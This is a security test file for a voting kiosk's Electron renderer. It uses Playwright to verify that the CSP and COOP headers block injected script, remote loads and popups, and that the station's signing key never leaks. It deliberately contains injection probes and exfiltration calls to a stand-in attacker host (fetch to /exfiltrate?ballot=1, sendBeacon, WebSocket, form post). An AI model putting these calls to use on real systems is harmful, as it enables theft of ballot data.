/**
 * The renderer's side of the lockdown, proven in Debian Chromium through the
 * test bridge: the built renderer served with the same Content-Security-Policy
 * and headers as Electron's `urna://` protocol. What is checked here lives in
 * the page (no Node, the CSP, COOP); what lives in Electron's main process
 * (refusing navigation and window.open, the IPC sender check, devtools) is
 * proven in test/unit/security/electron-lockdown.test.ts and, with a binary, in
 * test/e2e/security-electron.e2e.test.ts.
 *
 * Script run through Playwright's `evaluate` is compiled by the debugger, which
 * CSP does not govern; so every probe that CSP must stop is started from a page
 * task (a timer callback), the way a script that got into the page would run.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchChromium } from '../support/chromium';
import { startTestStation, type TestStation } from '../support/station';
import { BRIDGE_ORIGIN, openBridgedRenderer, type BridgedPage } from '../support/test-bridge';
import { parseSignerKey } from '../../core/ledger/note';
import { secretsIn } from '../unit/security/secret-encodings';

const REMOTE = 'https://attacker.example';

describe('renderer lockdown in Chromium (through the test bridge)', () => {
  let browser: Browser;
  let station: TestStation;
  let bridged: BridgedPage;
  let page: Page;
  /** Every request any page of the context got an answer to, or lost to anything but CSP. */
  const requests: string[] = [];

  beforeAll(async () => {
    station = startTestStation({ stationId: 'st-sec-01' });
    browser = await launchChromium();
    bridged = await openBridgedRenderer(browser, station);
    page = bridged.page;
    // Chromium reports a load CSP stops as a request that failed with "csp": it never left.
    bridged.context.on('requestfinished', (request) => requests.push(request.url()));
    bridged.context.on('requestfailed', (request) => {
      if (request.failure()?.errorText !== 'csp') requests.push(request.url());
    });
    await page.getByTestId('poll-worker-desk').waitFor();
    // Collect CSP violations the page reports, from now on.
    await page.evaluate(() => {
      const seen: string[] = [];
      (window as unknown as { __violations: string[] }).__violations = seen;
      document.addEventListener('securitypolicyviolation', (event) =>
        seen.push(`${event.effectiveDirective} ${event.blockedURI}`),
      );
    });
  });

  afterAll(async () => {
    await bridged?.close();
    await browser?.close();
    await station?.close();
  });

  const violations = () =>
    page.evaluate(() => [...new Set((window as unknown as { __violations: string[] }).__violations)]);
  const remoteRequests = () => requests.filter((url) => !url.startsWith(`${BRIDGE_ORIGIN}/`));

  it('serves the page with the kiosk CSP and isolation headers', async () => {
    const response = await page.reload();
    const headers = response?.headers() ?? {};
    await page.getByTestId('poll-worker-desk').waitFor();
    await page.evaluate(() => {
      const seen: string[] = [];
      (window as unknown as { __violations: string[] }).__violations = seen;
      document.addEventListener('securitypolicyviolation', (event) =>
        seen.push(`${event.effectiveDirective} ${event.blockedURI}`),
      );
    });
    expect(headers['content-security-policy']).toContain("script-src 'self'");
    expect(headers['cross-origin-opener-policy']).toBe('same-origin');
    expect(headers['x-content-type-options']).toBe('nosniff');
  });

  it('gives the page no Node: no require, process, Buffer, module or global; only window.urna', async () => {
    const globals = await page.evaluate(() => {
      const w = window as unknown as Record<string, unknown>;
      return Object.fromEntries(
        [
          'require',
          'process',
          'Buffer',
          'module',
          'exports',
          'global',
          '__dirname',
          '__filename',
          'setImmediate',
          'electron',
          'ipcRenderer',
        ].map((name) => [name, typeof w[name]]),
      );
    });
    expect(
      Object.values(globals).every((type) => type === 'undefined'),
      JSON.stringify(globals),
    ).toBe(true);
    expect(await page.evaluate(() => typeof window.urna)).toBe('object');
  });

  it('refuses inline script, inline handlers, javascript: URLs, eval, new Function and string timers', async () => {
    const outcome = await page.evaluate(async () => {
      const w = window as unknown as Record<string, unknown>;
      const inPageTask = <T>(probe: () => T): Promise<string> =>
        new Promise((resolve) =>
          setTimeout(() => {
            try {
              resolve(`ran: ${String(probe())}`);
            } catch (error) {
              resolve(`refused: ${(error as Error).name}`);
            }
          }, 0),
        );
      const evalResult = await inPageTask(() => eval('"evaluated"') as string);
      // The probe is the point: a script that got in must not be able to do this.
      // eslint-disable-next-line @typescript-eslint/no-implied-eval
      const functionResult = await inPageTask(() => (new Function('return "constructed"') as () => string)());
      // A string timer is compiled like eval.
      (setTimeout as unknown as (code: string, ms: number) => void)('window.__stringTimer = true', 0);
      const script = document.createElement('script');
      script.textContent = 'window.__inlineScript = true';
      document.body.append(script);
      const holder = document.createElement('div');
      holder.innerHTML =
        '<img src="missing.png" onerror="window.__inlineHandler = true"><a id="__js" href="javascript:window.__javascriptUrl = true">x</a>';
      document.body.append(holder);
      (document.getElementById('__js') as HTMLAnchorElement).click();
      // In the page, proving a negative: none of the injected scripts ran in the time they had.
      // eslint-disable-next-line urna/no-fixed-sleep
      await new Promise((resolve) => setTimeout(resolve, 400));
      holder.remove();
      script.remove();
      return {
        evalResult,
        functionResult,
        stringTimer: w['__stringTimer'] ?? false,
        inlineScript: w['__inlineScript'] ?? false,
        inlineHandler: w['__inlineHandler'] ?? false,
        javascriptUrl: w['__javascriptUrl'] ?? false,
      };
    });
    expect(outcome).toEqual({
      evalResult: 'refused: EvalError',
      functionResult: 'refused: EvalError',
      stringTimer: false,
      inlineScript: false,
      inlineHandler: false,
      javascriptUrl: false,
    });
    const seen = await violations();
    expect(seen).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^script-src eval/),
        'script-src-elem inline',
        'script-src-attr inline',
      ]),
    );
  });

  it('loads nothing from elsewhere: script, style, image, font, fetch, WebSocket, worker, frame, object, form, base', async () => {
    requests.length = 0;
    const outcome = await page.evaluate(async (remote) => {
      const results: Record<string, string> = {};
      const add = (html: string) => {
        const holder = document.createElement('div');
        holder.innerHTML = html;
        document.body.append(holder);
        return holder;
      };
      const script = document.createElement('script');
      script.src = `${remote}/payload.js`;
      document.body.append(script);
      const holders = [
        add(`<img src="${remote}/pixel.png">`),
        add(`<link rel="stylesheet" href="${remote}/style.css">`),
        add(`<iframe src="${remote}/frame.html"></iframe>`),
        add(`<object data="${remote}/thing.swf"></object>`),
        add(`<style>@font-face { font-family: x; src: url(${remote}/font.woff2) } body { font-family: x }</style>`),
      ];
      for (const [name, probe] of [
        ['fetch remote', () => fetch(`${remote}/exfiltrate?ballot=1`)],
        ['fetch same origin', () => fetch('/index.html')],
      ] as const) {
        try {
          await probe();
          results[name] = 'loaded';
        } catch {
          results[name] = 'refused';
        }
      }
      // These fail asynchronously: the CSP violations and the absent requests below tell.
      navigator.sendBeacon(`${remote}/beacon`, 'ballot');
      try {
        new WebSocket('wss://attacker.example/socket');
      } catch {
        // refused synchronously: as good
      }
      const worker = new Worker('/assets/worker.js');
      worker.onerror = () => undefined;
      // A form that would navigate the kiosk to another origin.
      const form = add(
        `<form action="${remote}/collect" method="post"><input name="x" value="1"></form>`,
      ).querySelector('form') as HTMLFormElement;
      form.submit();
      // A <base> that would re-point every relative URL.
      const base = document.createElement('base');
      base.href = `${remote}/`;
      document.head.append(base);
      results['base applied'] = String(document.baseURI.startsWith(remote));
      base.remove();
      // In the page, proving a negative: no load reached another origin in the time it had.
      // eslint-disable-next-line urna/no-fixed-sleep
      await new Promise((resolve) => setTimeout(resolve, 600));
      script.remove();
      for (const holder of holders) holder.remove();
      form.remove();
      return { results, url: location.href };
    }, REMOTE);
    expect(outcome.results).toEqual({
      'fetch remote': 'refused',
      'fetch same origin': 'refused',
      'base applied': 'false',
    });
    expect(outcome.url).toBe(`${BRIDGE_ORIGIN}/index.html`);
    // Nothing went to another origin: CSP stopped every load before the network.
    expect(remoteRequests()).toEqual([]);
    const directives = new Set((await violations()).map((v) => v.split(' ')[0]));
    for (const directive of [
      'script-src-elem',
      'img-src',
      'style-src-elem',
      'frame-src',
      'object-src',
      'connect-src',
      'form-action',
      'base-uri',
      'worker-src',
    ]) {
      expect(directives, `no ${directive} violation`).toContain(directive);
    }
  });

  it('window.open gives the page no handle on another origin, and the popup no handle on the kiosk', async () => {
    const popupPromise = bridged.context.waitForEvent('page', { timeout: 5_000 }).catch(() => null);
    const opener = await page.evaluate(async (remote) => {
      const handle = window.open(`${remote}/phish.html`);
      // In the page, proving a negative: no popup handle appears in the time it had.
      // eslint-disable-next-line urna/no-fixed-sleep
      await new Promise((resolve) => setTimeout(resolve, 500));
      let readable: string;
      try {
        readable = handle ? handle.location.href : 'no window';
      } catch {
        readable = 'unreadable';
      }
      return { closed: handle === null || handle.closed, readable, url: location.href };
    }, REMOTE);
    // Cross-Origin-Opener-Policy: same-origin severs the two: the kiosk sees a closed window.
    expect(opener.closed).toBe(true);
    expect(opener.url).toBe(`${BRIDGE_ORIGIN}/index.html`);
    expect(['unreadable', 'no window']).toContain(opener.readable);
    const popup = await popupPromise;
    if (popup) {
      expect(await popup.evaluate(() => window.opener === null)).toBe(true);
      await popup.close();
    }
    // In Electron the main process denies the window outright (setWindowOpenHandler → deny):
    // test/unit/security/electron-lockdown.test.ts and security-electron.e2e.test.ts.
  });

  it('holds no station secret: not in the DOM, not in anything window.urna answers', async () => {
    const key = parseSignerKey(readFileSync(path.join(station.dataDir, 'station.key'), 'utf8').trim());
    if (!key.ok) throw new Error('station key');
    const secrets = [{ name: 'station signing key', bytes: key.value.secretKey }];
    // A fresh page (the tests before left this one mid-navigation) with the desk's details
    // open: the most a page holds about the station, its id, keys and ledgers.
    const fresh = await bridged.context.newPage();
    await fresh.goto(`${BRIDGE_ORIGIN}/index.html`);
    await fresh.getByTestId('desk-details').click();
    await fresh.getByText('st-sec-01').first().waitFor({ timeout: 15_000 });
    const seen = await fresh.evaluate(async () => {
      const answers = await Promise.all([window.urna.getStationStatus({}), window.urna.getVoterSession({})]);
      return {
        dom: document.documentElement.outerHTML,
        answers: JSON.stringify(answers),
        storage: JSON.stringify({ ...localStorage }) + JSON.stringify({ ...sessionStorage }),
      };
    });
    expect(seen.dom).toContain('st-sec-01');
    expect([
      ...secretsIn(seen.dom, secrets, 'DOM'),
      ...secretsIn(seen.answers, secrets, 'API answers'),
      ...secretsIn(seen.storage, secrets, 'web storage'),
    ]).toEqual([]);
    await fresh.close();
  });
});
